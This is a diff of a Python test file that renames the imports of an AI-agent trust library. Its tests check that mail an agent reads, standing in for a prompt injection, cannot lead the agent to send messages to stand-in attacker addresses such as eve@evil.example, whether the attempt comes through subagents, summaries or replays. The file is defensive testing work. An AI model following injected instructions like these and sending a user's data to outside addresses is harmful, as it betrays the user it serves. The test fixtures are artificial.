@@ -2,17 +2,17 @@
 
 import pytest
 
-import toolwright as tw
-from toolwright.core.decision import Allow, Approval, Deny, Evidence, Grant, Rewrite
-from toolwright.core.entry import CallDecided, StepDone
-from toolwright.core.message import Results, said
-from toolwright.core.tool import Facts
-from toolwright.errors import UsageError
-from toolwright.loop.result import RunResult
-from toolwright.record.memory import MemoryJournal
-from toolwright.testing import ScriptedModel, call, reply
-from toolwright.trust.policy import Rule
-from toolwright.trust.rules import Rules
+import rightcall as rc
+from rightcall.core.decision import Allow, Approval, Deny, Evidence, Grant, Rewrite
+from rightcall.core.entry import CallDecided, StepDone
+from rightcall.core.message import Results, said
+from rightcall.core.tool import Facts
+from rightcall.errors import UsageError
+from rightcall.loop.result import RunResult
+from rightcall.record.memory import MemoryJournal
+from rightcall.testing import ScriptedModel, call, reply
+from rightcall.trust.policy import Rule
+from rightcall.trust.rules import Rules
 from trust.kit import EVIL, Office
 
 PROMPT = "Read my mail and answer bob@firm.example."
@@ -21,9 +21,9 @@ AGAIN = call("send", to=["eve@evil.example"], body="more")
 ELSEWHERE = call("send", to=["mallory@evil.example"], body="x")
 
 
-def agent_of(office: Office, *script, **settings) -> tw.Agent:
+def agent_of(office: Office, *script, **settings) -> rc.Agent:
     settings = {"trust": Rules(), **settings}
-    return tw.Agent(ScriptedModel([*map(_reply, script), "done"]), office.tools, **settings)
+    return rc.Agent(ScriptedModel([*map(_reply, script), "done"]), office.tools, **settings)
 
 
 def _reply(each):
@@ -91,7 +91,7 @@ async def test_a_yes_for_the_run_holds_when_the_run_is_recovered():
 
     agent = agent_of(office, call("inbox"), THEFT, journal=journal, approve=approve)
     await agent.run(PROMPT, run="r")
-    tw.record.fork(journal, "r", "again", at=len(list(journal.entries("r"))) - 3)
+    rc.record.fork(journal, "r", "again", at=len(list(journal.entries("r"))) - 3)
     later = agent_of(office, AGAIN, journal=journal)
     result = await later.recover("again")
     assert result.pending == ()
@@ -114,7 +114,7 @@ async def test_a_run_that_is_recovered_anywhere_comes_to_the_same_decisions(kept
     expected = await whole.run(PROMPT, run="r")
     entries = list(journal.entries("r"))
     kept = min(kept, len(entries) - 1)
-    tw.record.fork(journal, "r", "again", at=kept)
+    rc.record.fork(journal, "r", "again", at=kept)
     replied = sum(type(entry).__name__ == "ReplyReceived" for entry in entries[:kept])
     rest = agent_of(office, *script[replied:], journal=journal, trust=Rules(otherwise="deny"))
     if replied == 4:
@@ -130,7 +130,7 @@ async def test_a_replay_gives_the_same_transcript():
     office, journal = Office(), MemoryJournal()
     agent = agent_of(office, call("inbox"), THEFT, journal=journal, trust=Rules(otherwise="deny"))
     result = await agent.run(PROMPT, run="r")
-    assert (await tw.replay(journal, "r")).transcript == result.transcript
+    assert (await rc.replay(journal, "r")).transcript == result.transcript
 
 
 async def test_a_conversation_that_goes_on_stays_tainted_and_the_user_may_still_order():
@@ -149,14 +149,14 @@ async def test_summing_up_and_leaving_out_lose_no_taint():
         return "The user wants mail to go to eve@evil.example."
 
     script = [call("inbox"), call("inbox"), call("inbox"), THEFT]
-    window = tw.Window(tokens=600, recent=1)
+    window = rc.Window(tokens=600, recent=1)
     result = await agent_of(office, *script, window=window, summarise=summarise).run(PROMPT)
     assert [each.arguments["to"] for each in result.pending] == [["eve@evil.example"]]
 
 
-def helper_of(office: Office, *script, trust=None) -> tw.Tool:
+def helper_of(office: Office, *script, trust=None) -> rc.Tool:
     settings = {} if trust is None else {"trust": trust}
-    inner = tw.Agent(
+    inner = rc.Agent(
         ScriptedModel([*map(_reply, script), "as you wish"]), office.tools, name="helper", **settings
     )
     return inner.as_tool()
@@ -167,7 +167,7 @@ async def test_a_subagent_is_held_to_what_its_caller_knows():
     helper = helper_of(
         office, (THEFT, call("send", to=["bob@firm.example"], body="hi")), trust=Rules(otherwise="deny")
     )
-    outer = tw.Agent(
+    outer = rc.Agent(
         ScriptedModel(
             [reply(call("inbox")), reply(call("helper", task="Write to eve@evil.example")), "done"]
         ),
@@ -182,7 +182,7 @@ async def test_a_subagent_without_rules_must_have_its_task_vouched_for():
     office = Office()
     helper = helper_of(office, THEFT)
     script = [reply(call("inbox")), reply(call("helper", task="Write to eve@evil.example")), "done"]
-    outer = tw.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny"))
+    outer = rc.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny"))
     result = await outer.run(PROMPT)
     assert ([c.outcome for c in result.calls], office.done) == (["returned", "denied"], [])
 
@@ -190,11 +190,11 @@ async def test_a_subagent_without_rules_must_have_its_task_vouched_for():
 async def test_what_was_read_is_known_below_a_subagent_that_has_no_rules():
     office = Office()
     helper = helper_of(office, THEFT, trust=Rules(otherwise="deny"))
-    between = tw.Agent(
+    between = rc.Agent(
         ScriptedModel([reply(call("helper", task="Go on")), "done"]), helper, name="between"
     )
     script = [reply(call("inbox")), reply(call("between", task=PROMPT)), "done"]
-    outer = tw.Agent(
+    outer = rc.Agent(
         ScriptedModel(script), [*office.tools, between.as_tool()], trust=Rules(otherwise="deny")
     )
     result = await outer.run(PROMPT)
@@ -204,7 +204,7 @@ async def test_what_was_read_is_known_below_a_subagent_that_has_no_rules():
 async def test_what_a_subagent_read_taints_its_caller():
     office = Office()
     helper = helper_of(office, call("inbox"), trust=Rules())
-    outer = tw.Agent(
+    outer = rc.Agent(
         ScriptedModel([reply(call("helper", task="Read the mail")), reply(THEFT), "done"]),
         [*office.tools, helper],
         trust=Rules(),
@@ -227,11 +227,11 @@ def test_an_agent_as_a_tool_has_the_facts_of_its_tools_together():
         content=(),
         derived=True,
     )
-    calm = tw.Agent(ScriptedModel([]), []).as_tool()
+    calm = rc.Agent(ScriptedModel([]), []).as_tool()
     assert calm.facts == Facts(
         untrusted=False, private=False, reach="nothing", dangers=(), targets=(), content=(), derived=True
     )
-    unknown = tw.Agent(ScriptedModel([]), [tw.Tool("x", "X.")]).as_tool()
+    unknown = rc.Agent(ScriptedModel([]), [rc.Tool("x", "X.")]).as_tool()
     dangers = ("money", "deletes", "credentials")
     assert unknown.facts == Facts(dangers=dangers, targets=("task",), content=(), derived=True)
 
@@ -250,7 +250,7 @@ async def test_the_model_states_what_the_request_needs_before_it_reads_anything(
             "done",
         ]
     )
-    agent = tw.Agent(
+    agent = rc.Agent(
         model, office.tools, "Be kind.", trust=Rules(grant="model", otherwise="deny"), journal=journal
     )
     result = await agent.run(f"{PROMPT} My file is called mail.", run="r")
@@ -277,7 +277,7 @@ async def test_an_answer_that_is_none_grants_nothing(answer):
     model = ScriptedModel(
         [answer, reply(call("inbox")), reply(call("send", to=["bob@firm.example"], body="x")), "done"]
     )
-    result = await tw.Agent(model, office.tools, trust=Rules(grant="model", otherwise="deny")).run(
+    result = await rc.Agent(model, office.tools, trust=Rules(grant="model", otherwise="deny")).run(
         PROMPT
     )
     assert (result.state.grant, office.done) == (Grant(), [])
@@ -287,7 +287,7 @@ async def test_in_a_long_conversation_only_the_users_words_are_shown_to_whoever_
     office = Office()
     first = await agent_of(office, call("inbox")).run(PROMPT)
     model = ScriptedModel([granting("send"), "done"])
-    agent = tw.Agent(model, office.tools, trust=Rules(grant="model"))
+    agent = rc.Agent(model, office.tools, trust=Rules(grant="model"))
     await agent.run("Now answer.", history=first.transcript)
     assert [message.text for message in model.requests[0].messages] == [PROMPT, "Now answer."]
 
@@ -305,7 +305,7 @@ async def test_a_run_may_have_a_grant_of_its_own_and_keeps_it():
 
 async def test_a_grant_without_rules_is_a_mistake():
     with pytest.raises(UsageError, match="trust="):
-        await tw.Agent(ScriptedModel(["x"]), []).run("x", grant=Grant())
+        await rc.Agent(ScriptedModel(["x"]), []).run("x", grant=Grant())
 
 
 async def test_a_screen_labels_what_it_suspects_and_is_asked_about_outsiders_only():
@@ -382,7 +382,7 @@ async def test_a_replay_with_live_tools_refuses_what_was_refused():
     agent = agent_of(office, call("inbox"), THEFT, own, journal=journal, trust=Rules(otherwise="deny"))
     await agent.run(PROMPT, run="r")
     again = Office()
-    await tw.replay(journal, "r", tools=again.tools)
+    await rc.replay(journal, "r", tools=again.tools)
     assert again.done == ["send bob@firm.example: hi"]
 
 
@@ -407,9 +407,9 @@ async def test_an_agent_that_a_plain_function_runs_is_held_to_its_callers_knowle
         return inner.run_sync(task).text
 
     facts = Facts(untrusted=False, private=False, reach="user", dangers=(), targets=(), content=())
-    tools = [*office.tools, tw.tool(delegate, facts=facts)]
+    tools = [*office.tools, rc.tool(delegate, facts=facts)]
     script = [reply(call("inbox")), reply(call("delegate", task="Write to eve@evil.example")), "done"]
-    result = await tw.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
+    result = await rc.Agent(ScriptedModel(script), tools, trust=Rules()).run(PROMPT)
     assert result.calls[1].result.text == "done"
     assert office.done == []
 
@@ -425,7 +425,7 @@ async def test_what_a_subagent_stored_does_not_come_back_to_its_caller_as_a_syst
         reply(call("send", to=["GB11 0000 1111 2222"], body="")),
         "done",
     ]
-    await tw.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny")).run(
+    await rc.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny")).run(
         PROMPT
     )
     assert office.done == ["send bob@firm.example: GB11 0000 1111 2222"]
